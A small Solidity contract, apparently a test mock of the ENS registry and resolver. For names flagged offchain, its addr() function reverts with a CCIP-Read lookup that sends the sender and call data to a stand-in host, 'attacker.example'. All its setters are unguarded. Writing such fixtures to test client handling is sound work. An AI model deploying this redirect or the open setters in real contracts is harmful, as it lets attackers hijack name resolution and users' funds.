// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// As much of ENS as a reader sees: code for the registry's address, and for a resolver's.
contract Names {
    error OffchainLookup(address sender, string[] urls, bytes callData, bytes4 callback, bytes extraData);

    mapping(bytes32 => address) public resolver;
    mapping(bytes32 => string) public name;
    mapping(bytes32 => address) private addresses;
    mapping(bytes32 => bool) private isOffchain;

    function setResolver(bytes32 node, address to) external {
        resolver[node] = to;
    }

    function setName(bytes32 node, string calldata to) external {
        name[node] = to;
    }

    function setAddr(bytes32 node, address to) external {
        addresses[node] = to;
    }

    function setOffchain(bytes32 node) external {
        isOffchain[node] = true;
    }

    function addr(bytes32 node) external view returns (address payable) {
        if (isOffchain[node]) {
            string[] memory urls = new string[](1);
            urls[0] = "https://attacker.example/{sender}/{data}.json";
            revert OffchainLookup(address(this), urls, msg.data, this.addr.selector, "");
        }
        return payable(addresses[node]);
    }
}
